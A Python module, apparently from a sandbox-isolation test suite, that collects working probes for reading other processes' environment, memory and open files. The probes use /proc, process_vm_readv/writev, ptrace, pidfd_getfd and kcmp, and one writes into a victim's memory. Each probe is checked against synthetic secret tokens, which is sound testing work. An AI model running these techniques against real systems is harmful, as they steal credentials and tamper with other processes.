"""Secrets of other processes, and of those this one came from: memory, environment, descriptors."""

from __future__ import annotations

import contextlib
import ctypes
import gc
import os
import re
from pathlib import Path

from escapes.declare import Target, snippet
from escapes.syscalls import libc, syscall

PATTERN = rb"S(?:ECRET|IBLING)-[0-9a-f]{32}"
AT_EXECFN = 31
PTRACE_TRACEME = 0
PTRACE_PEEKDATA = 2
PTRACE_SEIZE = 0x4206
PTRACE_INTERRUPT = 0x4207
KCMP_VM = 1
WINDOW = 4096


def find(data: bytes) -> str:
    """Return the secret in the data, if there is one."""
    found = re.search(PATTERN, data)
    return found.group().decode() if found else ""


def _remote(pid: int, address: int, length: int) -> bytes:
    buffer = ctypes.create_string_buffer(length)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), length)
    there = (ctypes.c_size_t * 2)(address, length)
    got = syscall("process_vm_readv", pid, here, 1, there, 1, 0)
    return buffer.raw[:got]


def _stack() -> int:
    """Return the address just above the environment that this process was started with."""
    libc.getauxval.restype = ctypes.c_ulong
    return int(libc.getauxval(AT_EXECFN))


@snippet(proof="claim")
def read_name_of_machine(target: Target) -> str:
    """Read the name of the machine, by which its owner may be known."""
    return os.uname().nodename if os.uname().nodename == target["machine"] else ""


@snippet(proof="secret")
def read_environment_file(target: Target) -> str:
    """Read the environment of a process outside."""
    return find(Path(f"/proc/{target['victim']}/environ").read_bytes())


@snippet(proof="secret")
def read_memory_file(target: Target) -> str:
    """Read the memory of a process outside, as a file."""
    memory = os.open(f"/proc/{target['victim']}/mem", os.O_RDONLY)
    return find(os.pread(memory, 100, target["victim_address"]))


@snippet(proof="secret")
def read_memory(target: Target) -> str:
    """Read the memory of a process outside, by the system call for it."""
    return find(_remote(target["victim"], target["victim_address"], 100))


@snippet(proof="victim")
def write_memory(target: Target) -> str:
    """Write into the memory of a process outside."""
    data = ctypes.create_string_buffer(b"owned", 5)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(data), 5)
    there = (ctypes.c_size_t * 2)(target["victim_address"], 5)
    syscall("process_vm_writev", target["victim"], here, 1, there, 1, 0)
    return ""


@snippet(proof="secret")
def trace(target: Target) -> str:
    """Trace a process outside and read its memory a word at a time."""
    syscall("ptrace", PTRACE_SEIZE, target["victim"], None, None)
    syscall("ptrace", PTRACE_INTERRUPT, target["victim"], None, None)
    os.waitpid(target["victim"], 0x40000000)  # __WALL
    word, data = ctypes.c_long(), b""
    for offset in range(0, 64, 8):
        place = target["victim_address"] + offset
        syscall("ptrace", PTRACE_PEEKDATA, target["victim"], place, word)
        data += bytes(word)
    return find(data)


@snippet(proof="claim")
def be_traced(target: Target) -> str:
    """Let oneself be traced by whoever forked this process."""
    del target
    return f"ptrace returned {syscall('ptrace', PTRACE_TRACEME, 0, None, None)}"


@snippet(proof="secret")
def open_descriptor_file(target: Target) -> str:
    """Open a file that a process outside holds open, and that has no name any more."""
    return find(Path(f"/proc/{target['victim']}/fd/0").read_bytes())


@snippet(proof="secret")
def take_descriptor(target: Target) -> str:
    """Take a descriptor out of a process outside."""
    fd = syscall("pidfd_getfd", os.pidfd_open(target["victim"]), 0, 0)
    return find(os.pread(fd, 100, 0))


@snippet(proof="secret")
def read_below_root_of_victim(target: Target) -> str:
    """Reach the files by the root of a process outside."""
    return Path(f"/proc/{target['victim']}/root{target['secret']}").read_text()


@snippet(proof="secret")
def read_below_working_folder_of_victim(target: Target) -> str:
    """Reach the files by the working folder of a process outside."""
    return Path(f"/proc/{target['victim']}/cwd/secret").read_text()


@snippet(proof="claim")
def find_descriptors(target: Target) -> str:
    """Look for descriptors besides the input, the output, the errors and the result."""
    del target
    found = []
    for fd in range(4, 1024):
        with contextlib.suppress(OSError):
            found.append(f"{fd}: {os.fstat(fd).st_mode:o}")
    return ", ".join(found)


@snippet(proof="claim")
def see_processes(target: Target) -> str:
    """Look for a process outside in the list of all."""
    return "the victim" if str(target["victim"]) in os.listdir("/proc") else ""


@snippet(proof="claim")
def see_victim(target: Target) -> str:
    """Ask whether a process outside exists, without touching it."""
    with contextlib.suppress(ProcessLookupError):
        os.close(os.pidfd_open(target["victim"]))
        return "the victim"
    return ""


@snippet(proof="claim")
def compare_with_victim(target: Target) -> str:
    """Compare memory with a process outside: the answer gives away kernel addresses' order."""
    return str(syscall("kcmp", os.getpid(), target["victim"], KCMP_VM, 0, 0))


@snippet(proof="secret")
def own_environment(target: Target) -> str:
    """Look through the environment."""
    del target
    return find(repr(os.environ).encode())


@snippet(proof="secret")
def own_first_environment(target: Target) -> str:
    """Look at the place in memory where the environment was at the start: clearing keeps it."""
    del target
    return find(ctypes.string_at(_stack() - WINDOW, WINDOW))


@snippet(proof="secret")
def own_environment_file(target: Target) -> str:
    """Read the file of the environment that this process was started with."""
    del target
    return find(Path("/proc/self/environ").read_bytes())


@snippet(proof="secret")
def environment_of_parent(target: Target) -> str:
    """Read the environment of the process that forked this one."""
    del target
    return find(Path(f"/proc/{os.getppid()}/environ").read_bytes())


@snippet(proof="secret")
def memory_of_parent(target: Target) -> str:
    """Read the memory of the process that forked this one: the addresses are the same."""
    del target
    return find(_remote(os.getppid(), _stack() - WINDOW, WINDOW))


@snippet(proof="secret")
def own_objects(target: Target) -> str:
    """Look through all objects that the process was forked with, the frozen ones too."""
    del target
    return search_objects()


def search_objects() -> str:
    """Return the first secret among all strings that are reachable."""
    gc.unfreeze()
    for holder in gc.get_objects():
        for held in gc.get_referents(holder):
            if isinstance(held, str | bytes):
                found = find(held if isinstance(held, bytes) else held.encode("utf-8", "replace"))
                if found:
                    return found
    return ""
